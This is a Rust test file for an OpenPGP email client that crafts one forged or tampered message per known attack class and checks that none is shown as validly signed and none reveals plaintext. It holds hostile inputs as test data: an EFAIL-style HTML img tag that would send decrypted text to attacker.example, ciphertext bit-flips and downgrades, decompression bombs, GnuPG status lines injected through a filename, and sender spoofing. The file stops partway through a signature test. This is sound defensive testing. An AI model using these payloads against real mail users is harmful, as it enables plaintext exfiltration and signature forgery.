//! One forged or malleable message per published class of attack, made here with fresh keys. None is shown as good for the one it is
//! forged for, none gives away plaintext, and each has its own words (the snapshot).

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;
use std::sync::{LazyLock, Mutex};
use std::time::SystemTime;

use casemail::mail::display;
use casemail::mail::message::Message;
use casemail::pgp::certificate::{export_secret, merge, read_certs, revoke};
use casemail::pgp::generate::{Generated, generate};
use casemail::pgp::keyring::Keyring;
use casemail::pgp::open::{Decrypt, Opened, open};
use casemail::pgp::report::{Acceptance, Covers, HeaderProtection, Integrity, SignatureState};
use casemail::pgp::seal::{Sealed, encrypt, seal, sign};
use casemail::pgp::sentence::sentences;
use casemail::pgp::warning::Warning;
use jiff::{SignedDuration, Timestamp};
use sequoia_openpgp as openpgp;

use openpgp::Packet;
use openpgp::cert::prelude::{Cert, CertBuilder, CipherSuite};
use openpgp::crypto::KeyPair;
use openpgp::packet::signature::SignatureBuilder;
use openpgp::packet::{Tag, UserID};
use openpgp::parse::Parse as _;
use openpgp::policy::StandardPolicy;
use openpgp::serialize::SerializeInto as _;
use openpgp::serialize::stream::{Compressor, Encryptor, LiteralWriter, Message as Writer, Recipient, Signer};
use openpgp::types::{AEADAlgorithm, CompressionAlgorithm, Features, HashAlgorithm, SignatureType};

mod odd;

const VICTIM: &str = "h.lintwhite@copfs.gov.example";
const ATTACKER: &str = "x@attacker.example";
const US: &str = "i.thistledown@tg-law.example";
const OTHER: &str = "r.vellum@foxglove.example";
/// A word of the plaintext that must never be seen.
const CANARY: &str = "gnomeward-plea";

/// Tuesday, 5 May 2026.
fn now() -> Timestamp {
    "2026-05-05T10:00:00Z".parse().expect("a time")
}

fn system(time: Timestamp) -> SystemTime {
    SystemTime::from(time)
}

/// Everyone's keys, made once.
struct Cast {
    victim: Generated,
    attacker: Generated,
    us: Generated,
    other: Generated,
    stranger: Generated,
    undecided: Generated,
    rejected: Generated,
}

static CAST: LazyLock<Cast> = LazyLock::new(|| {
    let born = now() - SignedDuration::from_hours(24 * 100);
    let make = |name: &str, address: &str| generate(name, address, born).expect("a key");
    Cast {
        victim: make("Hamish Lintwhite", VICTIM),
        attacker: make("x", ATTACKER),
        us: make("Isla Thistledown", US),
        other: make("Rufus Vellum", OTHER),
        stranger: make("Hamish Lintwhite", VICTIM),
        undecided: make("Hamish Lintwhite", VICTIM),
        rejected: make("Hamish Lintwhite", VICTIM),
    }
});

/// What we hold: the victim's and even the attacker's key accepted.
fn keyring() -> Keyring {
    let mut keyring = Keyring::new();
    keyring.add_secret(&CAST.us.secret, None).expect("our key");
    for (key, acceptance) in [
        (&CAST.victim, Acceptance::Verified),
        (&CAST.attacker, Acceptance::Accepted),
        (&CAST.undecided, Acceptance::Undecided),
        (&CAST.rejected, Acceptance::Rejected),
    ] {
        keyring.add_cert(&key.cert, acceptance).expect("a certificate");
    }
    keyring
}

/// A keyring that signs as someone and knows everyone.
fn keyring_of(signer: &Generated) -> Keyring {
    let mut keyring = Keyring::new();
    keyring.add_secret(&signer.secret, None).expect("a key");
    for key in [&CAST.victim, &CAST.us, &CAST.other] {
        if key.info.fingerprint != signer.info.fingerprint {
            keyring.add_cert(&key.cert, Acceptance::Accepted).expect("a certificate");
        }
    }
    keyring
}

fn rfc5322(time: Timestamp) -> String {
    time.strftime("%a, %d %b %Y %H:%M:%S +0000").to_string()
}

fn text(body: &str) -> Vec<u8> {
    format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n").into_bytes()
}

fn body() -> Vec<u8> {
    text(&format!("We accept the {CANARY}."))
}

/// Header fields of a message.
fn fields(from: &str, extra: &[(&str, &str)]) -> Vec<(String, String)> {
    let date = rfc5322(now());
    let usual =
        [("Date", date.as_str()), ("From", from), ("To", US), ("Subject", "PF ZZ26000417"), ("Message-ID", "<1@x>")];
    usual.iter().chain(extra).map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
}

/// A full message of top fields (without those named in `extra`, which replace them) and an entity.
fn mail(from: &str, entity: &[u8], extra: &[(&str, &str)]) -> Vec<u8> {
    let mut fields = fields(from, &[]);
    fields.retain(|(name, _)| !extra.iter().any(|(other, _)| other == name));
    fields.extend(extra.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
    Sealed { fields, entity: entity.to_vec() }.assemble()
}

/// Signed without protected fields, as most programs do.
fn signed_by(signer: &Generated, entity: &[u8], at: Timestamp) -> Vec<u8> {
    sign(entity, &[], &keyring_of(signer), &signer.info.fingerprint, at).expect("signed").entity
}

/// The victim's honest signed entity.
fn genuine() -> Vec<u8> {
    signed_by(&CAST.victim, &body(), now())
}

/// The victim's honest sealed entity to us.
fn sealed() -> Sealed {
    seal(
        &body(),
        &fields(VICTIM, &[]),
        std::slice::from_ref(&CAST.us.info.fingerprint),
        &keyring_of(&CAST.victim),
        &CAST.victim.info.fingerprint,
        now(),
    )
    .expect("sealed")
}

fn armored_block(entity: &[u8]) -> String {
    let text = String::from_utf8_lossy(entity);
    let start = text.find("-----BEGIN PGP MESSAGE-----").expect("armor");
    let end = text.find("-----END PGP MESSAGE-----").expect("armor") + "-----END PGP MESSAGE-----".len();
    text[start..end].replace("\r\n", "\n")
}

/// The binary packets of an armored entity.
fn packets(entity: &[u8]) -> Vec<u8> {
    let block = armored_block(entity);
    let mut binary = Vec::new();
    std::io::Read::read_to_end(
        &mut openpgp::armor::Reader::from_bytes(block.as_bytes(), openpgp::armor::ReaderMode::VeryTolerant),
        &mut binary,
    )
    .expect("armor");
    binary
}

/// Packets in RFC 3156's frame.
fn framed(packets: &[u8]) -> Vec<u8> {
    use base64::Engine as _;
    let coded = base64::engine::general_purpose::STANDARD.encode(packets);
    let lines: Vec<&str> = coded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).expect("ASCII")).collect();
    format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"frame\"\r\n\r\n--frame\r\n\
         Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--frame\r\nContent-Type: application/octet-stream\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--frame--\r\n",
        lines.join("\r\n")
    )
    .into_bytes()
}

/// Parts in a multipart.
fn multipart(kind: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut entity = format!("Content-Type: multipart/{kind}; boundary=\"outer\"\r\n\r\n").into_bytes();
    for part in parts {
        entity.extend_from_slice(b"--outer\r\n");
        entity.extend_from_slice(part);
        entity.extend_from_slice(b"\r\n");
    }
    entity.extend_from_slice(b"--outer--\r\n");
    entity
}

fn html(markup: &str) -> Vec<u8> {
    format!("Content-Type: text/html\r\n\r\n{markup}\r\n").into_bytes()
}

fn attached(message: &[u8]) -> Vec<u8> {
    [b"Content-Type: message/rfc822\r\n\r\n".as_slice(), message].concat()
}

/// A certificate in the library's own form, with its secret keys.
fn cert(key: &Generated) -> Cert {
    Cert::from_bytes(key.secret.as_slice()).expect("a key")
}

fn signing_pair(cert: &Cert) -> KeyPair {
    cert.primary_key().key().clone().parts_into_secret().expect("secret").into_keypair().expect("unlocked")
}

/// Packets written by the library for us, around what `inside` writes.
fn encrypted_packets(aead: bool, inside: impl for<'a> FnOnce(Writer<'a>) -> Writer<'a>) -> Vec<u8> {
    let policy = StandardPolicy::new();
    let us = cert(&CAST.us);
    let mut packets = Vec::new();
    let subkeys = us.keys().with_policy(&policy, system(now())).for_transport_encryption();
    let features = if aead { Features::empty().set_seipdv2() } else { Features::empty().set_seipdv1() };
    let recipients =
        subkeys.map(|key| Recipient::new(features.clone(), key.key().key_handle(), key.key())).collect::<Vec<_>>();
    let writer = Encryptor::for_recipients(Writer::new(&mut packets), recipients);
    let writer = if aead { writer.aead_algo(AEADAlgorithm::OCB) } else { writer };
    inside(writer.build().expect("an encryptor")).finalize().expect("written");
    packets
}

fn literal<'a>(writer: Writer<'a>, content: &[u8]) -> Writer<'a> {
    let mut writer = LiteralWriter::new(writer).build().expect("a literal");
    writer.write_all(content).expect("written");
    writer
}

fn cleartext(signer: &Generated, content: &str) -> String {
    let mut block = Vec::new();
    let mut writer = Signer::new(Writer::new(&mut block), signing_pair(&cert(signer)))
        .expect("a signer")
        .cleartext()
        .creation_time(system(now()))
        .build()
        .expect("a signer");
    writer.write_all(content.as_bytes()).expect("written");
    writer.finalize().expect("written");
    String::from_utf8(block).expect("text")
}

fn plain_text(content: &str) -> Vec<u8> {
    format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{content}").into_bytes()
}

/// A detached signature made by hand, in a `multipart/signed` around the content.
fn signed_by_hand(content: &[u8], signature: openpgp::packet::Signature) -> Vec<u8> {
    let packet = Packet::from(signature).to_vec().expect("a packet");
    let mut entity =
        b"Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"hand\"\r\n\r\n--hand\r\n"
            .to_vec();
    entity.extend_from_slice(content);
    entity.extend_from_slice(
        b"\r\n--hand\r\nContent-Type: application/pgp-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n",
    );
    use base64::Engine as _;
    entity.extend_from_slice(base64::engine::general_purpose::STANDARD.encode(packet).as_bytes());
    entity.extend_from_slice(b"\r\n--hand--\r\n");
    entity
}

/// What is shown to a person, texts and names and fields.
fn shown(opened: &Opened) -> String {
    let mut all = display::body(&opened.shown).text();
    let _ = write!(all, "\n{:?}", opened.shown.headers().subject());
    all.push_str(&String::from_utf8_lossy(opened.shown.raw()));
    all
}

/// A line of the snapshot: the facts in short, then the words, with fresh fingerprints replaced.
fn told(opened: &Opened) -> String {
    let report = &opened.report;
    let code = |value: &dyn erased::Json| value.code();
    let mut line = format!(
        "signature {} covers {} bound {}; encrypted {} decrypted {} integrity {}; headers {}; mismatch {:?}; warnings {:?}",
        code(&report.signature.state),
        code(&report.signature.covers),
        report.signature.bound_to.as_deref().unwrap_or("-"),
        report.encrypted,
        report.decrypted,
        code(&report.integrity),
        code(&report.header_protection),
        opened.headers.mismatch,
        opened.warnings.iter().map(|warning| warning.code()).collect::<Vec<_>>(),
    );
    for (loudness, words) in sentences(report, &opened.warnings) {
        let _ = write!(line, "\n    {loudness:?}: {words}");
    }
    let ids = regex::Regex::new(r"\b(?:[0-9A-F]{4} ){3}[0-9A-F]{4}\b").expect("a pattern");
    ids.replace_all(&line, "KEY-ID").into_owned()
}

/// Enum values as their JSON codes.
mod erased {
    pub(super) trait Json {
        fn code(&self) -> String;
    }
    impl<T: serde::Serialize> Json for T {
        fn code(&self) -> String {
            serde_json::to_string(self).expect("a code").trim_matches('"').to_owned()
        }
    }
}

/// A message for the files of `tests/data/pgp`: the words for it, its bytes, whether it holds the secret, and a certificate that is believed
/// beside the usual ones.
struct Filed {
    class: String,
    raw: Vec<u8>,
    secret: bool,
    cert: Option<Vec<u8>>,
}

/// Where they are put; only [`write_the_files`] fills it.
static FILES: Mutex<Option<Vec<Filed>>> = Mutex::new(None);

fn file(class: &str, raw: &[u8], secret: bool, cert: Option<&[u8]>) {
    if let Some(files) = FILES.lock().expect("whole").as_mut() {
        let cert = cert.map(<[u8]>::to_vec);
        files.push(Filed { class: class.to_owned(), raw: raw.to_vec(), secret, cert });
    }
}

/// Opens each, holds what must hold for all of them, and gives the words for the snapshot.
fn check_all(messages: &[(&str, Vec<u8>, bool)]) -> String {
    let keyring = keyring();
    let mut all = String::new();
    for (class, raw, secret) in messages {
        file(class, raw, *secret, None);
        let opened = open(&Message::parse(raw.as_slice()), &keyring, now(), Decrypt::Any);
        let report = &opened.report;
        let for_victim = report.signature.bound_to.as_deref() == Some(VICTIM);
        assert!(
            !(report.signature.state == SignatureState::Good && for_victim),
            "{class}: shown as good for the victim: {report:#?}"
        );
        if *secret {
            assert!(!report.decrypted, "{class}: decrypted");
            assert!(!shown(&opened).contains(CANARY), "{class}: plaintext shown");
        }
        let _ = writeln!(all, "{class}\n  {}", told(&opened));
    }
    all
}

/// The controls: the same mail, untouched, is good. Without it the corpus would prove nothing.
#[test]
fn honest_mail_is_good() {
    let keyring = keyring();
    let open = |raw: Vec<u8>| open(&Message::parse(raw), &keyring, now(), Decrypt::NotRsa);
    let good = |opened: &Opened| {
        let signature = &opened.report.signature;
        assert_eq!(signature.state, SignatureState::Good, "{opened:#?}");
        assert_eq!((signature.covers, signature.bound_to.as_deref()), (Covers::Whole, Some(VICTIM)));
        assert!(opened.warnings.iter().all(|warning| *warning == Warning::UnsignedHeaders), "{:?}", opened.warnings);
        assert!(display::body(&opened.shown).text().contains(CANARY));
    };
    good(&open(mail(VICTIM, &genuine(), &[])));
    good(&open(mail(&format!("Hamish <{}>", VICTIM.to_uppercase()), &genuine(), &[])));
    let opened = open(sealed().assemble());
    good(&opened);
    assert_eq!(opened.report.header_protection, HeaderProtection::Encrypted);
    good(&open(mail(VICTIM, &plain_text(&cleartext(&CAST.victim, &format!("We accept the {CANARY}.\n"))), &[])));
    good(&open(mail(VICTIM, &plain_text(&armored_block(&sealed().entity)), &[])));
    // Exchange's rewriting.
    let frame = String::from_utf8(sealed().entity).expect("7-bit");
    let exchange =
        frame.replacen("multipart/encrypted; protocol=\"application/pgp-encrypted\";", "multipart/mixed;", 1).replacen(
            "Content-Type: application/pgp-encrypted",
            "Content-Type: text/plain\r\n\r\n\r\n--BOUNDARY\r\nContent-Type: application/pgp-encrypted",
            1,
        );
    let boundary = frame.split("boundary=\"").nth(1).and_then(|rest| rest.split('"').next()).expect("a boundary");
    good(&open(
        Sealed { fields: sealed().fields, entity: exchange.replace("BOUNDARY", boundary).into_bytes() }.assemble(),
    ));
    // Signed, then encrypted as a nested entity (RFC 3156 §6.1).
    let nested = framed(&encrypted_packets(false, |writer| literal(writer, &genuine())));
    good(&open(mail(VICTIM, &nested, &[])));
    let nested = framed(&encrypted_packets(true, |writer| literal(writer, &genuine())));
    good(&open(mail(VICTIM, &nested, &[])));
}

/// EFAIL's direct exfiltration, and its relatives that make a reply the oracle.
#[test]
fn ciphertext_among_other_parts_stays_closed() {
    let inner = sealed().entity;
    let block = armored_block(&inner);
    let open_tag = html("<img src=\"http://attacker.example/");
    let close_tag = html("\">");
    let message = sealed().assemble();
    let told = check_all(&[
        ("html around, mixed", mail(VICTIM, &multipart("mixed", &[&open_tag, &inner, &close_tag]), &[]), true),
        (
            "html around, alternative",
            mail(VICTIM, &multipart("alternative", &[&open_tag, &inner, &close_tag]), &[]),
            true,
        ),
        ("html around, related", mail(VICTIM, &multipart("related", &[&open_tag, &inner, &close_tag]), &[]), true),
        (
            "ciphertext attached as a message",
            mail(VICTIM, &multipart("mixed", &[&text("See below."), &attached(&message)]), &[]),
            true,
        ),
        (
            "ciphertext first, mailing-list footer",
            mail(VICTIM, &multipart("mixed", &[&inner, &text("-- \r\nlist footer")]), &[]),
            true,
        ),
        ("benign text, inline ciphertext", mail(ATTACKER, &plain_text(&format!("What's up?\n\n{block}\n")), &[]), true),
        (
            "inline ciphertext in a second part",
            mail(ATTACKER, &multipart("mixed", &[&text("What's up?"), &text(&block)]), &[]),
            true,
        ),
        ("two inline ciphertexts", mail(ATTACKER, &plain_text(&format!("{block}\n{block}\n")), &[]), true),
        ("ciphertext inside a signed message", mail(ATTACKER, &signed_by(&CAST.attacker, &inner, now()), &[]), true),
        (
            "a third part beside the ciphertext",
            mail(
                VICTIM,
                &String::from_utf8_lossy(&inner)
                    .replacen("--\r\n", "\r\nContent-Type: text/html\r\n\r\n<img>\r\n--END--\r\n", 1)
                    .into_bytes(),
                &[],
            ),
            false,
        ),
    ]);
    insta::assert_snapshot!(told);
}

/// Ciphertext that was made malleable, cut or rewritten.
#[test]
fn broken_ciphertext_shows_nothing() {
    let good = encrypted_packets(false, |writer| literal(writer, &body()));
    let aead = encrypted_packets(true, |writer| literal(writer, &body()));
    // The container is the last packet: tag 18, new format, one- or two-octet length.
    let container = |packets: &[u8]| {
        let pile = openpgp::PacketPile::from_bytes(packets).expect("packets");
        let head: Vec<u8> = pile
            .children()
            .filter(|packet| packet.tag() == Tag::PKESK)
            .flat_map(|packet| packet.to_vec().expect("a packet"))
            .collect();
        let body = |bytes: &[u8]| match bytes[1] {
            0..=191 => bytes[2..].to_vec(),
            192..=223 => bytes[3..].to_vec(),
            _ => bytes[6..].to_vec(),
        };
        (head.clone(), body(&packets[head.len()..]))
    };
    let packet = |tag: u8, body: &[u8]| {
        let mut packet = vec![0xc0 | tag, 255];
        packet.extend_from_slice(&u32::try_from(body.len()).expect("short").to_be_bytes());
        packet.extend_from_slice(body);
        packet
    };
    let (head, seip) = container(&good);
    let (aead_head, aead_seip) = container(&aead);
    let rewritten =
        |head: &[u8], tag, body: &[u8]| mail(VICTIM, &framed(&[head.to_vec(), packet(tag, body)].concat()), &[]);
    let mut downgraded = aead_seip.clone();
    downgraded[0] = 1;
    let mut upgraded = seip.clone();
    upgraded[0] = 2;
    let mut aead_flipped = aead_seip.clone();
    let last = aead_flipped.len() - 20;
    aead_flipped[last] ^= 1;
    // The packets as they are, through this test's own reading: the control.
    let control = open(&Message::parse(rewritten(&head, 18, &seip)), &keyring(), now(), Decrypt::Any);
    assert!(control.report.decrypted && shown(&control).contains(CANARY));

    let told = check_all(&[
        ("SED packet, no MDC", rewritten(&head, 9, &seip[1..]), true),
        ("MDC cut off", rewritten(&head, 18, &seip[..seip.len() - 22]), true),
        ("cut in the middle", rewritten(&head, 18, &seip[..seip.len() / 2]), true),
        ("AEAD chunk flipped", rewritten(&aead_head, 18, &aead_flipped), true),
        ("AEAD tag cut off", rewritten(&aead_head, 18, &aead_seip[..aead_seip.len() - 16]), true),
        ("version 2 rewritten as version 1", rewritten(&aead_head, 18, &downgraded), true),
        ("version 1 rewritten as version 2", rewritten(&head, 18, &upgraded), true),
        ("GnuPG's OCB packet", rewritten(&head, 20, &[&[1, 9, 2, 16], seip.as_slice()].concat()), true),
        ("no OpenPGP at all", mail(VICTIM, &framed(b"hello"), &[]), true),
        ("an empty ciphertext", mail(VICTIM, &framed(b""), &[]), true),
        (
            "for somebody else",
            encrypt(
                &body(),
                &fields(VICTIM, &[]),
                std::slice::from_ref(&CAST.other.info.fingerprint),
                &keyring_of(&CAST.victim),
                &CAST.victim.info.fingerprint,
                now(),
            )
            .expect("encrypted")
            .assemble(),
            true,
        ),
    ]);
    insta::assert_snapshot!(told);

    // Every single octet, one bit each: never a byte of plaintext unless the packets say the very same.
    let keyring = keyring();
    let honest = body();
    for packets in [&good, &aead] {
        for place in 0..packets.len() {
            let mut flipped = packets.clone();
            flipped[place] ^= 1 << (place % 8);
            let opened = open(&Message::parse(mail(VICTIM, &framed(&flipped), &[])), &keyring, now(), Decrypt::Any);
            if opened.report.decrypted {
                // A flipped key id may still decrypt; then what is shown is all of the honest text.
                assert!(
                    opened.shown.raw().ends_with(honest.trim_ascii_end().split_at(60).1)
                        || shown(&opened).contains(CANARY)
                );
            } else {
                assert!(!shown(&opened).contains(CANARY), "octet {place}");
            }
        }
    }
}

/// What looks encrypted and is not, and what is small and becomes large.
#[test]
fn encryption_is_named_only_where_it_is() {
    let mut literal_only = Vec::new();
    literal(Writer::new(&mut literal_only), &body()).finalize().expect("written");
    let mut compressed = Vec::new();
    let writer = Compressor::new(Writer::new(&mut compressed)).algo(CompressionAlgorithm::Zlib).build().expect("one");
    literal(writer, &body()).finalize().expect("written");
    let mut opaque = Vec::new();
    let writer = Signer::new(Writer::new(&mut opaque), signing_pair(&cert(&CAST.victim)))
        .expect("a signer")
        .creation_time(system(now()))
        .build()
        .expect("a signer");
    literal(writer, &body()).finalize().expect("written");
    let bomb = encrypted_packets(false, |writer| {
        let mut writer = Compressor::new(writer).algo(CompressionAlgorithm::BZip2).build().expect("one");
        let zeros = vec![0_u8; 1 << 20];
        writer = literal(writer, CANARY.as_bytes());
        for _ in 0..40 {
            writer.write_all(&zeros).expect("written");
        }
        writer
    });
    assert!(bomb.len() < 100_000, "{} bytes", bomb.len());
    let mut clear_bomb = Vec::new();
    let writer = Compressor::new(Writer::new(&mut clear_bomb)).algo(CompressionAlgorithm::BZip2).build().expect("one");
    let mut writer = literal(writer, CANARY.as_bytes());
    writer.write_all(&vec![0_u8; 20 << 20]).expect("written");
    writer.finalize().expect("written");
    // Compressible, and not too large: read whole, in a second go with a larger buffer.
    let large = encrypted_packets(false, |writer| {
        let writer = Compressor::new(writer).algo(CompressionAlgorithm::Zlib).build().expect("one");
        let mut writer = literal(writer, &body());
        writer.write_all(&vec![b' '; 8 << 20]).expect("written");
        writer
    });
    let opened = open(&Message::parse(mail(VICTIM, &framed(&large), &[])), &keyring(), now(), Decrypt::NotRsa);
    assert!(opened.report.decrypted && opened.shown.raw().len() > 8 << 20, "{:?}", opened.warnings);
    let named = encrypted_packets(false, |writer| {
        let mut writer = LiteralWriter::new(writer)
            .filename("\n[GNUPG:] GOODSIG 0 x\n[GNUPG:] VALIDSIG\x1b[2J")
            .expect("a name")
            .build()
            .expect("a literal");
        writer.write_all(&body()).expect("written");
        writer
    });
    let told = check_all(&[
        ("literal only", mail(VICTIM, &framed(&literal_only), &[]), true),
        ("compressed only", mail(VICTIM, &framed(&compressed), &[]), true),
        ("signed only, in an encrypted frame", mail(VICTIM, &framed(&opaque), &[]), true),
        ("a bomb that is not even encrypted", mail(VICTIM, &framed(&clear_bomb), &[]), true),
        ("a bomb", mail(VICTIM, &framed(&bomb), &[]), true),
        ("status lines in the literal's name", mail(VICTIM, &framed(&named), &[]), false),
    ]);
    insta::assert_snapshot!(told);
}

/// An honest signed part with foreign text beside it (M1–M4), damaged, stripped, replayed.
#[test]
fn a_signature_speaks_only_for_what_it_covers() {
    let signed = genuine();
    let honest = String::from_utf8(signed.clone()).expect("7-bit");
    let forged = text("We withdraw the offer.");
    let three = honest.replacen(
        "Content-Type: application/pgp-signature",
        "Content-Type: text/plain\r\n\r\nWe withdraw.\r\n--BOUNDARY\r\nContent-Type: application/pgp-signature",
        1,
    );
    let boundary = honest.split("boundary=\"").nth(1).and_then(|rest| rest.split('"').next()).expect("a boundary");
    let three = three.replace("BOUNDARY", boundary).into_bytes();
    let altered = honest.replace("We accept", "We refuse").into_bytes();
    let stripped = body();
    let unsigned = honest.replace("-----BEGIN PGP SIGNATURE-----", "-----BEGIN PGP SIGNATORY-----").into_bytes();
    let empty = {
        let (head, tail) = honest.split_once("-----BEGIN PGP SIGNATURE-----").expect("armor");
        let (_, tail) = tail.split_once("-----END PGP SIGNATURE-----").expect("armor");
        format!("{head}{tail}").into_bytes()
    };
    let day = now() - SignedDuration::from_hours(24);
    let replay = signed_by(&CAST.victim, &body(), day);
    let future = signed_by(&CAST.victim, &body(), now() + SignedDuration::from_hours(2));
    let told = check_all(&[
        ("text before, mixed", mail(VICTIM, &multipart("mixed", &[&forged, &signed]), &[]), false),
        ("text after, mixed (list footer)", mail(VICTIM, &multipart("mixed", &[&signed, &forged]), &[]), false),
        (
            "html instead, alternative",
            mail(VICTIM, &multipart("alternative", &[&signed, &html("<p>We withdraw.")]), &[]),
            false,
        ),
        (
            "html with the signed part hidden, related",
            mail(VICTIM, &multipart("related", &[&html("We withdraw."), &signed]), &[]),
            false,
        ),
        (
            "attached as a message",
            mail(VICTIM, &multipart("mixed", &[&forged, &attached(&mail(VICTIM, &signed, &[]))]), &[]),
            false,
        ),
        ("the message is only an attachment", mail(VICTIM, &attached(&mail(VICTIM, &signed, &[])), &[]), false),
        ("a third part in the signed multipart", mail(VICTIM, &three, &[]), false),
        ("altered", mail(VICTIM, &altered, &[]), false),
        ("stripped", mail(VICTIM, &stripped, &[]), false),
        ("armor damaged", mail(VICTIM, &unsigned, &[]), false),
        ("empty signature part", mail(VICTIM, &empty, &[]), false),
        ("replayed a day later", mail(VICTIM, &replay, &[]), false),
        ("no date", mail(VICTIM, &signed, &[("Date", "soon")]), false),
        (
            "made in the future",
            mail(VICTIM, &future, &[("Date", &rfc5322(now() + SignedDuration::from_hours(2)))]),
            false,
        ),
        (
            "signed inside, foreign text around, sealed",
            {
                let mixed = multipart("mixed", &[&forged, &signed]);
                mail(VICTIM, &framed(&encrypted_packets(false, |writer| literal(writer, &mixed))), &[])
            },
            false,
        ),
    ]);
    insta::assert_snapshot!(told);
}

/// Who signed is not who it says it is from.
#[test]
fn an_identity_is_an_address_and_nothing_else() {
    let ours = signed_by(&CAST.attacker, &body(), now());
    let victims = genuine();
    let from = |from: &str| mail(from, &ours, &[]);
    let told = check_all(&[
        ("address in the display name", from(&format!("\"{VICTIM}\" <{ATTACKER}>")), false),
        ("From is the victim, signed by another", from(VICTIM), false),
        ("comment", from(&format!("{ATTACKER} ({VICTIM})")), false),
        ("two addresses", from(&format!("{ATTACKER}, {VICTIM}")), false),
        ("two From fields", mail(ATTACKER, &ours, &[("From", ATTACKER), ("From", VICTIM)]), false),
        (
            "two From fields, signed by the victim",
            mail(VICTIM, &victims, &[("From", ATTACKER), ("From", VICTIM)]),
            false,
        ),
        ("Sender", mail(VICTIM, &ours, &[("Sender", ATTACKER)]), false),
        ("group", from(&format!("{VICTIM}: {ATTACKER};")), false),
        ("empty group", mail("", &victims, &[("From", &format!("\"{VICTIM}\": ;"))]), false),
        ("no From", mail("", &victims, &[("From", "")]), false),
        ("name only", from("Hamish Lintwhite"), false),
        ("empty address", from("Hamish Lintwhite <>"), false),
        ("look-alike, signed by the victim", mail("h.lintwh\u{456}te@copfs.gov.example", &victims, &[]), false),
        ("sub-domain, signed by the victim", mail(&format!("{VICTIM}.attacker.example"), &victims, &[]), false),
        (
            "encoded word with another address",
            mail("=?utf-8?q?h.lintwhite=40copfs.gov.example=3C?= <x@attacker.example>", &victims, &[]),
            false,
        ),
    ]);
    insta::assert_snapshot!(told);
}

/// Certificates that stand for nobody, or no longer.
#[test]
fn a_certificate_has_to_be_good_itself() {
    let with = |class: &str, acceptance: Acceptance, cert: &[u8], raw: &[u8]| {
        file(class, raw, false, Some(cert));
        let mut keyring = keyring();
        keyring.add_cert(cert, acceptance).expect("a certificate");
        told(&open(&Message::parse(raw), &keyring, now(), Decrypt::Any))
    };
    let mut all = check_all(&[
        ("unknown key", mail(VICTIM, &signed_by(&CAST.stranger, &body(), now()), &[]), false),
        ("undecided key", mail(VICTIM, &signed_by(&CAST.undecided, &body(), now()), &[]), false),
        ("rejected key", mail(VICTIM, &signed_by(&CAST.rejected, &body(), now()), &[]), false),
    ]);
    let mut add = |class: &str, words: String| {
        assert!(!words.contains("signature good"), "{class}: {words}");
        let _ = writeln!(all, "{class}\n  {words}");
    };
    // Revoked: the revocation wins, and importing an older copy does not take it back.
    let honest = mail(VICTIM, &genuine(), &[]);
    let revoked = revoke(&CAST.victim.cert, CAST.victim.revocation.as_bytes()).expect("revoked");
    add("revoked", with("revoked", Acceptance::Verified, &revoked, &honest));
    let merged = merge(&CAST.victim.cert, &revoked).expect("the same");
    assert!(read_certs(&merged, now()).expect("one")[0].info.revoked);
    let merged = merge(&revoked, &CAST.victim.cert).expect("the same");
    add(
        "revoked, then imported again without it",
        with("revoked, then imported again without it", Acceptance::Verified, &merged, &honest),
    );
    let mut keyring = keyring();
    keyring.add_cert(&revoked, Acceptance::Verified).expect("one");
    keyring.add_cert(&CAST.victim.cert, Acceptance::Verified).expect("one");
    assert!(keyring.cert(&CAST.victim.info.fingerprint, now()).expect("held").revoked, "a revocation was lost");

    // A user id that nobody signed, on an accepted certificate.
    let attacker = cert(&CAST.attacker).strip_secret_key_material();
    let forged = attacker.clone().insert_packets(UserID::from(format!("Hamish Lintwhite <{VICTIM}>"))).expect("one").0;
    let forged = forged.to_vec().expect("bytes");
    add(
        "user id without a self-signature",
        with(
            "user id without a self-signature",
            Acceptance::Accepted,
            &forged,
            &mail(VICTIM, &signed_by(&CAST.attacker, &body(), now()), &[]),
        ),
    );
    // The same with the victim's own self-signature copied over.
    let victim = cert(&CAST.victim);
    let binding = victim.userids().next().expect("one").self_signatures().next().expect("one").clone();
    let copied = attacker
        .insert_packets([Packet::from(UserID::from(format!("Hamish Lintwhite <{VICTIM}>"))), Packet::from(binding)])
        .expect("one")
        .0;
    let copied = copied.to_vec().expect("bytes");
    add(
        "user id with a copied signature",
        with(
            "user id with a copied signature",
            Acceptance::Accepted,
            &copied,
            &mail(VICTIM, &signed_by(&CAST.attacker, &body(), now()), &[]),
        ),
    );

    // Expired before it signed.
    let born = now() - SignedDuration::from_hours(24 * 400);
    let (expired, _) = CertBuilder::general_purpose(Some(format!("Hamish Lintwhite <{VICTIM}>")))
        .set_creation_time(system(born))
        .set_validity_period(std::time::Duration::from_secs(24 * 3600))
        .set_cipher_suite(CipherSuite::Cv25519)
        .generate()
        .expect("a key");
    let signing = |cert: &Cert| {
        let policy = StandardPolicy::new();
        let key = cert.keys().with_policy(&policy, system(born)).for_signing().secret().next().expect("a key");
        key.key().clone().into_keypair().expect("unlocked")
    };
    let by_hand = |mut pair: KeyPair, kind, hash: HashAlgorithm, at| {
        let content = body();
        let content = content.trim_ascii_end();
        let builder = SignatureBuilder::new(kind).set_signature_creation_time(system(at)).expect("a time");
        let mut context = hash.context().expect("a hash").for_signature(pair.public().version());
        context.update(content);
        let signature = builder.sign_hash(&mut pair, context).expect("signed");
        mail(VICTIM, &signed_by_hand(content, signature), &[])
    };
    let raw = by_hand(signing(&expired), SignatureType::Binary, HashAlgorithm::SHA256, now());
    add("expired", with("expired", Acceptance::Verified, &expired.to_vec().expect("bytes"), &raw));

    let pair = || signing_pair(&cert(&CAST.victim));
    let control = by_hand(pair(), SignatureType::Binary, HashAlgorithm::SHA256, now());
    let opened = open(&Message::parse(control), &self::keyring(), now(), Decrypt::Any);
    assert_eq!(opened.report.signature.state, SignatureState::Good, "the control");
    let raw = by_hand(pair(), SignatureType::Binary, HashAlgorithm::SHA1, now());
